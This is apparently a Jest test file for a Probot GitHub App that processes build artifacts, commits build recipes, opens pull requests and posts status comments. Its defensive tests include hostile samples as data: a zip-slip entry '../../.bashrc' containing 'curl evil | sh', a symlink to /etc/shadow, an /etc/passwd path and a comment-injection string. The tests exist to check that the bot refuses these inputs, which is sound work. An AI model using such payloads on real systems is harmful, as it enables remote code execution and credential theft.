/**
 * The completed run of the buildbench workflow: Probot + nock, the recorded workflow_run payload, and the
 * output artifact zipped here with fflate from a real output folder (test/fixtures/golden/success, whose
 * result.json and RUNBOOK.md a real run wrote; build.sh from test/fixtures/golden/action).
 */
import { beforeEach, describe, expect, it } from '@jest/globals';
import { generateKeyPairSync } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { zipSync, type Zippable } from 'fflate';
import { Probot, ProbotOctokit } from 'probot';
import { parse } from 'yaml';

import {
  BOT_ARTIFACT_NAME,
  BOT_BRANCH,
  onBuildbenchRunCompleted,
  parseRunTitle,
  type RunCompletedOptions,
  type RunCompletedOutcome,
} from '../../../src/bot/run-completed.js';
import { readArtifactZip, symlinkEntries, unsafeEntryName } from '../../../src/bot/artifact-zip.js';
import nock, { strictNock } from '../../helpers/nock.js';

const API = 'https://api.github.com';
const REPO = '/repos/octo-org/octo-repo';
const BLOB_HOST = 'https://pipelinesghubeus2.actions.githubusercontent.com';
const HEAD_SHA = '4b1c2d3e4f5061728394a5b6c7d8e9f0a1b2c3d4';
const RUN_ID = 289790001;
const ARTIFACT_ID = 4242;
const INSTALLATION_TOKEN = 'ghs_installation_token_for_the_test';

const read = (rel: string): Buffer => readFileSync(new URL(`../../fixtures/${rel}`, import.meta.url));
const fixture = (): Record<string, unknown> =>
  JSON.parse(read('webhooks/workflow_run.completed.buildbench.json').toString('utf8')) as Record<
    string,
    unknown
  >;

const PATCH_NAME = '0001-zinfo.c-glibc-2.32-removed-sys-sysctl.h.patch';
const PATCH = [
  'From 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001',
  'Subject: [PATCH] zinfo.c: glibc 2.32 removed <sys/sysctl.h>',
  '',
  '--- a/zinfo.c',
  '+++ b/zinfo.c',
  '@@ -1,3 +1,2 @@',
  ' #include <stdio.h>',
  '-#include <sys/sysctl.h>',
  ' #include <zlib.h>',
  '',
].join('\n');
const DOCKERFILE =
  'FROM debian:bookworm\nARG RECIPE_DIR=buildbench\nCOPY . /src\nRUN bash /src/${RECIPE_DIR}/build.sh\n';
const BUILD_SH = read('golden/action/build.sh').toString('utf8');

/** The output folder of the successful run, as upload-artifact zips it (logs and binaries included). */
function successFolder(): Zippable {
  return {
    'result.json': read('golden/success/result.json'),
    'RUNBOOK.md': read('golden/success/RUNBOOK.md'),
    'build.sh': Buffer.from(BUILD_SH),
    Dockerfile: Buffer.from(DOCKERFILE),
    patches: { [PATCH_NAME]: Buffer.from(PATCH) },
    logs: { 'turn-00.log': Buffer.from('fatal error: zlib.h: No such file or directory\n') },
    artifacts: { zinfo: new Uint8Array(4096).fill(0x7f) },
    'trajectory.jsonl': read('golden/success/trajectory.jsonl'),
  };
}
const failedFolder = (): Zippable => ({
  'result.json': read('golden/failed/result.json'),
  'RUNBOOK.md': read('golden/failed/RUNBOOK.md'),
});
const zip = (folder: Zippable): Buffer => Buffer.from(zipSync(folder));

const privateKey = generateKeyPairSync('rsa', {
  modulusLength: 2048,
  privateKeyEncoding: { type: 'pkcs1', format: 'pem' },
  publicKeyEncoding: { type: 'spki', format: 'pem' },
}).privateKey;

let outcomes: RunCompletedOutcome[] = [];
// No real network; each test must end with no unmatched call and no unused mock (test/helpers/nock.ts).
strictNock();

function probot(config = { pullRequests: true }, options: RunCompletedOptions = {}): Probot {
  const bot = new Probot({
    appId: 1,
    privateKey,
    githubToken: INSTALLATION_TOKEN,
    logLevel: 'fatal',
    // A function, not an object: Probot puts its own throttle options over an object's, and the throttling
    // plugin then paces writes a second apart (the recipe's dozen writes would take the test's time).
    Octokit: ProbotOctokit.defaults((options: Record<string, unknown>) => ({
      ...options,
      retry: { enabled: false },
      throttle: { enabled: false },
    })),
  });
  void bot.load((app) => {
    app.on('workflow_run.completed', async (context) => {
      outcomes.push(await onBuildbenchRunCompleted(context, config, options));
    });
  });
  return bot;
}

async function receive(bot: Probot, payload: Record<string, unknown>): Promise<void> {
  await bot.receive({ id: `delivery-${Math.random()}`, name: 'workflow_run', payload } as Parameters<
    Probot['receive']
  >[0]);
}

/** The App's token on every API call. */
const api = (): nock.Scope => nock(API, { reqheaders: { authorization: `token ${INSTALLATION_TOKEN}` } });

/** The run's artifact listing and its zip behind GitHub's redirect. */
function artifactMocks(body: Buffer, runId = RUN_ID, listedSize = body.length): nock.Scope[] {
  const listing = api()
    .get(`${REPO}/actions/runs/${runId}/artifacts`)
    .query({ name: BOT_ARTIFACT_NAME, per_page: '100' })
    .reply(200, {
      total_count: 1,
      artifacts: [{ id: ARTIFACT_ID, name: BOT_ARTIFACT_NAME, size_in_bytes: listedSize, expired: false }],
    });
  const redirect = api()
    .get(`${REPO}/actions/artifacts/${ARTIFACT_ID}/zip`)
    .reply(302, '', { location: `${BLOB_HOST}/artifact-${ARTIFACT_ID}.zip?sig=xyz` });
  const blob = nock(BLOB_HOST, { badheaders: ['authorization'] })
    .get(`/artifact-${ARTIFACT_ID}.zip`)
    .query({ sig: 'xyz' })
    .reply(200, body, { 'content-type': 'application/zip' });
  return [listing, redirect, blob];
}

/** The sticky comment: the issue's comments (the Action's rewrite of the bot's comment), then its update. */
function stickyMocks(): { scope: nock.Scope; bodies: string[] } {
  const bodies: string[] = [];
  const scope = api()
    .get(`${REPO}/issues/5/comments`)
    .query({ per_page: '100' })
    .reply(200, [
      {
        id: 1234567,
        html_url: 'https://github.com/octo-org/octo-repo/issues/5#issuecomment-1234567',
        user: { login: 'buildbench[bot]', type: 'Bot' },
        body: '<!-- buildbench:comment -->\n### buildbench: running',
      },
    ])
    .patch(`${REPO}/issues/comments/1234567`, (b: { body: string }) => {
      bodies.push(b.body);
      return true;
    })
    .reply(200, {
      id: 1234567,
      html_url: 'https://github.com/octo-org/octo-repo/issues/5#issuecomment-1234567',
    });
  return { scope, bodies };
}

/**
 * What the App looks up before it publishes (src/bot/provenance.ts): #5 (an issue, built on the default branch),
 * its comments (the status comment and the writer's command before the run), the writer's permission. Registered
 * before the other mocks of a delivery: a GET registered after the scopes with body-matching POSTs hung here.
 */
function publishMocks(): nock.Scope {
  return api()
    .get(`${REPO}/issues/5`)
    .reply(200, { number: 5, state: 'open' })
    .get(`${REPO}/issues/5/comments`)
    .query({ per_page: '100' })
    .reply(200, [
      {
        id: 1234500,
        created_at: '2026-11-30T10:10:58Z',
        user: { login: 'octocat', type: 'User' },
        body: '/buildbench build',
      },
      {
        id: 1234567,
        created_at: '2026-11-30T10:11:00Z',
        user: { login: 'buildbench[bot]', type: 'Bot' },
        body: '<!-- buildbench:comment -->\n### buildbench: running',
      },
    ])
    .get(`${REPO}/collaborators/octocat/permission`)
    .reply(200, { permission: 'write', role_name: 'write' });
}

interface GitCalls {
  blobs: string[];
  trees: { base_tree: string; tree: { path: string; mode: string }[] }[];
  commits: { message: string; parents: string[] }[];
  refs: { ref?: string; sha: string; force?: boolean }[];
}

/** The Git Data writes of the recipe on top of HEAD_SHA: blobs, a tree and a commit per planned commit. */
function gitMocks(tag: string, existingBranch: boolean): { scope: nock.Scope; calls: GitCalls } {
  const calls: GitCalls = { blobs: [], trees: [], commits: [], refs: [] };
  const ref = /^\/repos\/octo-org\/octo-repo\/git\/ref\/heads(?:\/|%2F)buildbench(?:\/|%2F)recipe$/;
  const scope = api();
  if (existingBranch) {
    scope
      .get(ref)
      .reply(200, { ref: 'refs/heads/buildbench/recipe', object: { sha: 'old-head' } })
      .get(`${REPO}/compare/${HEAD_SHA}...old-head`)
      .reply(200, { ahead_by: 2, behind_by: 0, files: [] });
  } else {
    scope.get(ref).reply(404, { message: 'Not Found' });
  }
  scope.get(`${REPO}/git/commits/${HEAD_SHA}`).reply(200, { sha: HEAD_SHA, tree: { sha: 'base-tree' } });
  const blob = (i: number): void => {
    scope
      .post(`${REPO}/git/blobs`, (body: { content: string }) => {
        calls.blobs.push(Buffer.from(body.content, 'base64').toString('utf8'));
        return true;
      })
      .reply(201, { sha: `${tag}-blob-${i}` });
  };
  const treeAndCommit = (i: number): void => {
    scope
      .post(`${REPO}/git/trees`, (body: GitCalls['trees'][number]) => {
        calls.trees.push(body);
        return true;
      })
      .reply(201, { sha: `${tag}-tree-${i}` })
      .post(`${REPO}/git/commits`, (body: GitCalls['commits'][number]) => {
        calls.commits.push(body);
        return true;
      })
      .reply(201, { sha: `${tag}-commit-${i}` });
  };
  [0, 1, 2].forEach(blob);
  treeAndCommit(1);
  blob(3);
  treeAndCommit(2);
  if (existingBranch) {
    scope
      .patch(
        /^\/repos\/octo-org\/octo-repo\/git\/refs\/heads(?:\/|%2F)buildbench(?:\/|%2F)recipe$/,
        (b: GitCalls['refs'][number]) => {
          calls.refs.push(b);
          return true;
        },
      )
      .reply(200, {});
  } else {
    scope
      .post(`${REPO}/git/refs`, (b: GitCalls['refs'][number]) => {
        calls.refs.push(b);
        return true;
      })
      .reply(201, {});
  }
  return { scope, calls };
}

const PR_URL = 'https://github.com/octo-org/octo-repo/pull/9';

beforeEach(() => {
  outcomes = [];
});

describe('onBuildbenchRunCompleted', () => {
  it('commits the verified recipe to buildbench/recipe on the built commit, opens one PR, then updates it', async () => {
    const bot = probot();
    const publish = publishMocks();
    const mocks = artifactMocks(zip(successFolder()));
    const git = gitMocks('first', false);
    const created: { title: string; body: string; head: string; base: string }[] = [];
    const pulls = api()
      .get(`${REPO}/pulls`)
      .query({ state: 'open', head: `octo-org:${BOT_BRANCH}`, per_page: '10' })
      .reply(200, [])
      .post(`${REPO}/pulls`, (b: (typeof created)[number]) => {
        created.push(b);
        return true;
      })
      .reply(201, { number: 9, html_url: PR_URL });
    const sticky = stickyMocks();
    await receive(bot, fixture());
    for (const m of [...mocks, publish, git.scope, pulls, sticky.scope]) expect(m.isDone()).toBe(true);

    // One commit with RUNBOOK.md, build.sh, Dockerfile on the run's head SHA, then one per patch.
    expect(git.calls.trees[0]?.base_tree).toBe('base-tree');
    expect(git.calls.trees[0]?.tree.map((e) => `${e.path} ${e.mode}`)).toEqual([
      'buildbench/RUNBOOK.md 100644',
      'buildbench/build.sh 100755',
      'buildbench/Dockerfile 100644',
    ]);
    expect(git.calls.trees[1]?.tree.map((e) => e.path)).toEqual([`buildbench/patches/${PATCH_NAME}`]);
    expect(git.calls.commits[0]?.parents).toEqual([HEAD_SHA]);
    expect(git.calls.commits[1]?.parents).toEqual(['first-commit-1']);
    expect(git.calls.commits[1]?.message).toContain('zinfo.c: glibc 2.32 removed <sys/sysctl.h>');
    expect(git.calls.blobs).toEqual([
      read('golden/success/RUNBOOK.md').toString('utf8'),
      BUILD_SH,
      DOCKERFILE,
      PATCH,
    ]);
    expect(git.calls.refs).toEqual([{ ref: `refs/heads/${BOT_BRANCH}`, sha: 'first-commit-2' }]);

    expect(created).toHaveLength(1);
    expect(created[0]?.head).toBe(BOT_BRANCH);
    expect(created[0]?.base).toBe('master');
    expect(created[0]?.title).toBe('buildbench: verified build recipe for pkg-and-patch');
    const body = created[0]?.body ?? '';
    expect(body).toContain('`buildbench/RUNBOOK.md`');
    expect(body).toContain(`\`${PATCH_NAME}\`: zinfo.c: glibc 2.32 removed &lt;sys/sysctl.h&gt;`);
    expect(body).toContain(`https://github.com/octo-org/octo-repo/actions/runs/${RUN_ID}`);
    expect(body).toContain('`4b1c2d3e4f50`');

    const comment = sticky.bodies[0] ?? '';
    expect(comment.startsWith('<!-- buildbench:status -->\n')).toBe(true);
    expect(comment).toContain('### ✅ buildbench: SUCCESS — pkg-and-patch');
    expect(comment).toContain('| yes | yes | yes | yes |');
    expect(comment).toContain('<details><summary>the recipe: `build.sh`</summary>');
    expect(comment).toContain(BUILD_SH.trimEnd());
    expect(comment).toContain(`**Pull request** (created): ${PR_URL}`);
    expect(comment).toContain(
      `[RUNBOOK.md](https://github.com/octo-org/octo-repo/blob/${BOT_BRANCH}/buildbench/RUNBOOK.md)`,
    );
    expect(comment).toContain(
      `[its artifacts (RUNBOOK, recipe, logs, binaries)](https://github.com/octo-org/octo-repo/actions/runs/${RUN_ID}/artifacts/${ARTIFACT_ID})`,
    );
    expect(outcomes[0]).toMatchObject({ kind: 'reported', issue: 5, status: 'success' });

    // A second successful run (another run id): the branch is force-moved, the open PR edited, no second PR.
    const second = fixture();
    const run = second.workflow_run as Record<string, unknown>;
    run.id = RUN_ID + 1;
    run.html_url = `https://github.com/octo-org/octo-repo/actions/runs/${RUN_ID + 1}`;
    const publish2 = publishMocks();
    const again = artifactMocks(zip(successFolder()), RUN_ID + 1);
    const git2 = gitMocks('second', true);
    const edits: { body?: string }[] = [];
    const pulls2 = api()
      .get(`${REPO}/pulls`)
      .query({ state: 'open', head: `octo-org:${BOT_BRANCH}`, per_page: '10' })
      .reply(200, [
        {
          number: 9,
          html_url: PR_URL,
          title: created[0]?.title,
          body: created[0]?.body,
          labels: [],
          base: { ref: 'master' },
        },
      ])
      .patch(`${REPO}/pulls/9`, (b: { body?: string }) => {
        edits.push(b);
        return true;
      })
      .reply(200, { number: 9, html_url: PR_URL });
    const sticky2 = stickyMocks();
    await receive(bot, second);
    for (const m of [...again, publish2, git2.scope, pulls2, sticky2.scope]) expect(m.isDone()).toBe(true);
    expect(git2.calls.refs).toEqual([{ sha: 'second-commit-2', force: true }]);
    expect(edits[0]?.body).toContain(`/actions/runs/${RUN_ID + 1}`);
    expect(sticky2.bodies[0]).toContain(`**Pull request** (updated): ${PR_URL}`);
  });

  it('a failed run opens no pull request; the comment says it failed, why, and the root cause', async () => {
    const bot = probot();
    artifactMocks(zip(failedFolder()));
    const sticky = stickyMocks();
    const payload = fixture();
    (payload.workflow_run as Record<string, unknown>).conclusion = 'failure';
    await receive(bot, payload);
    const comment = sticky.bodies[0] ?? '';
    expect(comment).toContain('### ❌ buildbench: FAILED — unavailable-dependency');
    expect(comment).toContain(
      'The build failed: every recipe was tried and none built the project; last root cause: missing header acmesdk/device.h.',
    );
    expect(comment).toContain('**Root cause** (turn 0, missing-dependency): missing header acmesdk/device.h');
    expect(comment).toContain('fatal error: acmesdk/device.h: No such file or directory');
    expect(comment).toContain('No pull request: the build ended FAILED.');
    expect(comment).not.toContain('Pull request**');
    expect(comment).toContain(
      `[RUNBOOK.md](https://github.com/octo-org/octo-repo/actions/runs/${RUN_ID}/artifacts/${ARTIFACT_ID})`,
    );
    expect(outcomes[0]).toMatchObject({ kind: 'reported', status: 'failed' });
  });

  it('ignores a run whose title is not the bot’s, or one not started by a dispatch, without a call', async () => {
    const bot = probot();
    const payload = fixture();
    (payload.workflow_run as Record<string, unknown>).display_title = 'Merge pull request #4';
    await receive(bot, payload);
    const pushed = fixture();
    (pushed.workflow_run as Record<string, unknown>).event = 'push';
    await receive(bot, pushed);
    expect(outcomes.map((o) => o.kind)).toEqual(['ignored', 'ignored']);
  });

  it('refuses an artifact with a zip-slip entry: nothing written, no pull request, the comment says so', async () => {
    const bot = probot();
    const evil = zipSync({ ...successFolder(), '../../.bashrc': Buffer.from('curl evil | sh\n') });
    artifactMocks(Buffer.from(evil));
    const sticky = stickyMocks();
    const before = readdirSync(tmpdir()).filter((f) => f.startsWith('buildbench-bot-'));
    await receive(bot, fixture());
    expect(readdirSync(tmpdir()).filter((f) => f.startsWith('buildbench-bot-'))).toEqual(before);
    const comment = sticky.bodies[0] ?? '';
    expect(comment).toContain('without a usable result');
    expect(comment).toContain('the artifact was refused: the entry "../../.bashrc" has a .. segment');
    expect(comment).toContain('nothing of it was used');
    expect(outcomes[0]).toMatchObject({ kind: 'reported', refused: expect.stringContaining('refused') });
  });

  it('refuses an artifact over the size limit before downloading it, with a comment', async () => {
    const bot = probot({ pullRequests: true }, { limits: { maxArchiveBytes: 1024 } });
    api()
      .get(`${REPO}/actions/runs/${RUN_ID}/artifacts`)
      .query({ name: BOT_ARTIFACT_NAME, per_page: '100' })
      .reply(200, {
        total_count: 1,
        artifacts: [
          { id: ARTIFACT_ID, name: BOT_ARTIFACT_NAME, size_in_bytes: 5 * 1024 * 1024, expired: false },
        ],
      });
    const sticky = stickyMocks();
    await receive(bot, fixture());
    expect(sticky.bodies[0]).toContain("the artifact is 5.0 MiB, over the bot's limit of 0.0 MiB");
  });

  it('with pullRequests: false reports the success without a pull request', async () => {
    const bot = probot({ pullRequests: false });
    artifactMocks(zip(successFolder()));
    const sticky = stickyMocks();
    await receive(bot, fixture());
    const comment = sticky.bodies[0] ?? '';
    expect(comment).toContain('✅ buildbench: SUCCESS');
    expect(comment).toContain('No pull request: pull requests are turned off (pull-requests: false).');
    expect(comment).toContain('<details><summary>the recipe: `build.sh`</summary>');
  });

  it('neutralises what the artifact says: mentions and HTML in the reason do not reach the comment raw', async () => {
    const bot = probot();
    const result = JSON.parse(read('golden/failed/result.json').toString('utf8')) as Record<string, unknown>;
    result.reason = 'ping @octocat <!-- buildbench:status --> </details>';
    artifactMocks(zip({ 'result.json': Buffer.from(JSON.stringify(result)) }));
    const sticky = stickyMocks();
    await receive(bot, fixture());
    const comment = sticky.bodies[0] ?? '';
    expect(comment).toContain('ping @\u200boctocat &lt;!-- buildbench:status --&gt; &lt;/details&gt;');
    expect(comment.split('<!-- buildbench:status -->')).toHaveLength(2);
  });
});

describe('the artifact zip', () => {
  it('ignores symbolic links and files the bot does not need', () => {
    const files = readArtifactZip(
      zipSync({
        'result.json': Buffer.from('{}'),
        'build.sh': [Buffer.from('/etc/shadow'), { os: 3, attrs: (0o120777 << 16) >>> 0 }],
        'logs/turn-00.log': Buffer.from('x'),
      }),
    );
    expect([...files.keys()]).toEqual(['result.json']);
  });

  it('finds symlinks in the central directory (the check can fail)', () => {
    const z = zipSync({
      a: [Buffer.from('t'), { os: 3, attrs: (0o120777 << 16) >>> 0 }],
      b: [Buffer.from('t'), { os: 3, attrs: (0o100644 << 16) >>> 0 }],
    });
    expect([...symlinkEntries(z)]).toEqual(['a']);
  });

  it('names the unsafe entry names', () => {
    expect(unsafeEntryName('/etc/passwd')).toBe('an absolute path');
    expect(unsafeEntryName('C:/x')).toBe('an absolute path');
    expect(unsafeEntryName('patches/../../x')).toBe('a .. segment');
    expect(unsafeEntryName('a\\b')).toBe('a backslash');
    expect(unsafeEntryName('patches/0001-a..b.patch')).toBeUndefined();
  });

  it('refuses a wanted file over the per-file limit and a non-zip', () => {
    const big = zipSync({ 'RUNBOOK.md': new Uint8Array(64 * 1024) });
    expect(() =>
      readArtifactZip(big, { maxArchiveBytes: 1 << 20, maxFileBytes: 1024, maxTotalBytes: 1 << 20 }),
    ).toThrow('RUNBOOK.md is 64 KiB unpacked, over the limit of 1 KiB');
    expect(() => readArtifactZip(Buffer.from('not a zip at all, just text'))).toThrow('not a zip archive');
  });
});

describe('the run title and the example workflow', () => {
  it('parses the run-name the workflow sets, and nothing else', () => {
    expect(parseRunTitle('buildbench #5 comment 1234567')).toEqual({ issue: 5, commentId: 1234567 });
    expect(parseRunTitle('buildbench #5 comment ')).toBeUndefined();
    expect(parseRunTitle('buildbench #0 comment 1')).toBeUndefined();
    expect(parseRunTitle('xbuildbench #5 comment 1')).toBeUndefined();
    expect(parseRunTitle(undefined)).toBeUndefined();
  });

  it('examples/workflows/buildbench-bot.yml sets that run-name, uploads the artifact the bot reads, and writes nothing', () => {
    const workflow = parse(
      readFileSync(new URL('../../../examples/workflows/buildbench-bot.yml', import.meta.url), 'utf8'),
    ) as {
      'run-name': string;
      on: { workflow_dispatch: { inputs: Record<string, { type?: string }> } };
      permissions: Record<string, string>;
      jobs: Record<
        string,
        { permissions?: Record<string, string>; steps: { uses?: string; with?: Record<string, string> }[] }
      >;
    };
    const title = workflow['run-name']
      .replace('${{ inputs.issue }}', '5')
      .replace('${{ inputs.comment-id }}', '1234567');
    expect(parseRunTitle(title)).toEqual({ issue: 5, commentId: 1234567 });
    expect(Object.keys(workflow.on.workflow_dispatch.inputs).sort()).toEqual(
      ['comment-id', 'issue', 'max-cost', 'max-turns', 'model', 'pull-request-ref', 'strategy'].sort(),
    );
    const steps = Object.values(workflow.jobs).flatMap((j) => j.steps);
    const upload = steps.find((s) => s.uses?.startsWith('actions/upload-artifact@'));
    expect(upload?.with?.name).toBe(BOT_ARTIFACT_NAME);
    // the job that runs the repository's code holds no write token: the App writes the comment at completion
    expect(workflow.permissions).toEqual({ contents: 'read' });
    for (const job of Object.values(workflow.jobs)) expect(job.permissions).toBeUndefined();
    const action = steps.find((s) => s.uses === 'buildbench/agent@v1');
    expect(action?.with?.['comment-id']).toBeUndefined();
  });
});
